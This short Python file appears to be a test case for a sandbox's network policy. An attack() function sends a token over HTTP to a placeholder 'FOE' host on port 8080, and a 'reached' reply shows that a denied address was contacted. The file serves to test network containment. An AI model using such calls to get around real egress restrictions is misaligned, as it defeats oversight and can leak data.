"""An HTTP request
Fetches a URL with the standard library.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
try:
    from http.client import HTTPConnection
except ImportError:
    from httplib import HTTPConnection


def attack(at):
    client = HTTPConnection(at.FOE, 8080, timeout=5)
    client.request("GET", "/" + at.token.decode())
    return client.getresponse().read() == b"reached"
